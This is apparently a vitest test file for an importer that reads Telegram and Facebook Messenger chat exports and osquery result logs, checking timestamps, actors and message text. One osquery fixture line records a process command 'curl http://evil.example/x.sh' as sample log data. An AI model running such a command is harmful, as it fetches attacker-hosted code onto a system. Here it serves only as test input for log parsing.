/*
 * JSON evidence from producers the field fixtures do not cover, written after each format's documentation:
 * a Telegram Desktop chat export (result.json: formatted text as pieces, service lines without text),
 * Suricata eve.json and Zeek JSON logs (the client address is the actor). Values worked out by hand.
 */
import { describe, expect, it } from 'vitest';
import { importDetected, isoOfMicros } from '../../tests/support/import-detected.ts';
import { itReadsEachExample } from '../../tests/support/example-cases.ts';

async function read(text: string, fileName: string, timeZone = 'UTC') {
  const { detection, invalid, records } = await importDetected(text, fileName, timeZone);
  return {
    detection,
    invalid,
    rows: records.map((r) => ({ at: isoOfMicros(r.startMicros), actor: r.actor, message: r.message })),
  };
}

const TELEGRAM = JSON.stringify(
  {
    name: 'Ops channel',
    type: 'private_supergroup',
    id: 1234567,
    messages: [
      {
        id: 1,
        type: 'service',
        date: '2024-01-02T07:41:03',
        date_unixtime: '1704181263',
        actor: 'Alice',
        actor_id: 'user111',
        action: 'create_group',
        title: 'Ops',
        text: '',
        text_entities: [],
      },
      {
        id: 2,
        type: 'message',
        date: '2024-01-02T07:42:10',
        date_unixtime: '1704181330',
        from: 'Alice',
        from_id: 'user111',
        text: 'Server down?',
        text_entities: [{ type: 'plain', text: 'Server down?' }],
      },
      {
        id: 3,
        type: 'message',
        date: '2024-01-02T07:43:00',
        date_unixtime: '1704181380',
        from: 'Bob',
        from_id: 'user222',
        reply_to_message_id: 2,
        text: ['Yes, see ', { type: 'link', text: 'https://status.example.com' }, ' ', { type: 'bold', text: 'now' }],
      },
    ],
  },
  null,
  1,
);

describe('JSON from more producers', () => {
  itReadsEachExample('json-field-variants');

  it('a Telegram chat export is timed by date_unixtime, not its zone-less local "date", whatever zone is chosen', async () => {
    const { detection, rows } = await read(TELEGRAM, 'result.json', 'America/New_York');
    expect(detection.reason).toContain('start time "date_unixtime" (the instant beside "date", which has no zone)');
    expect(rows.map((row) => row.at)).toEqual([
      '2024-01-02T07:41:03.000Z',
      '2024-01-02T07:42:10.000Z',
      '2024-01-02T07:43:00.000Z',
    ]);
  });

  it('a Telegram chat export: the speaker as actor, formatted text joined, a service line shown by its fields', async () => {
    const { detection, rows, invalid } = await read(TELEGRAM, 'result.json');
    expect(detection.reason).toContain('"messages"');
    expect(invalid).toEqual([]);
    expect(rows.map((row) => row.at)).toEqual([
      '2024-01-02T07:41:03.000Z',
      '2024-01-02T07:42:10.000Z',
      '2024-01-02T07:43:00.000Z',
    ]);
    expect(rows.slice(1).map((row) => row.actor)).toEqual(['Alice', 'Bob']);
    expect(rows[2]?.message).toBe('Yes, see https://status.example.com now');
    expect(rows[0]?.message).toContain('action=create_group');
  });

  it('a Facebook Messenger export: sender_name, timestamp_ms and content; a photo-only message shows its fields', async () => {
    const doc = JSON.stringify({
      participants: [{ name: 'Alice Example' }, { name: 'Bob Example' }],
      messages: [
        { sender_name: 'Bob Example', timestamp_ms: 1704181380000, content: 'Yes, it is down' },
        { sender_name: 'Alice Example', timestamp_ms: 1704181330000, content: 'Server down?' },
        {
          sender_name: 'Alice Example',
          timestamp_ms: 1704181263000,
          photos: [{ uri: 'photos/1.jpg', creation_timestamp: 1704181263 }],
        },
      ],
      title: 'Bob Example',
    });
    const { rows } = await read(doc, 'message_1.json');
    // 1704181380000 ms is 2024-01-02T07:43:00Z.
    expect(rows.map((row) => [row.at, row.actor])).toEqual([
      ['2024-01-02T07:43:00.000Z', 'Bob Example'],
      ['2024-01-02T07:42:10.000Z', 'Alice Example'],
      ['2024-01-02T07:41:03.000Z', 'Alice Example'],
    ]);
    expect(rows[1]?.message).toBe('Server down?');
  });

  it('osquery results: timed by the time every line has, not a result column "time" only some queries return', async () => {
    const result = (name: string, unixTime: number, columns: Record<string, string>) =>
      JSON.stringify({
        name,
        hostIdentifier: 'web-01',
        calendarTime: new Date(unixTime * 1000).toUTCString().replace('GMT', 'UTC'),
        unixTime,
        decorations: { username: 'alice' },
        columns,
        action: 'added',
      });
    const lines = [
      result('logged_in_users', 1709640000, { host: '203.0.113.9', time: '1709639990', user: 'alice' }),
      result('process_events', 1709640005, { cmdline: 'curl http://evil.example/x.sh', pid: '4242' }),
    ].join('\n');
    const { invalid, rows } = await read(lines, 'osqueryd.results.log');
    expect(invalid).toEqual([]);
    expect(rows.map((row) => row.at)).toEqual(['2024-03-05T12:00:00.000Z', '2024-03-05T12:00:05.000Z']);
  });
});
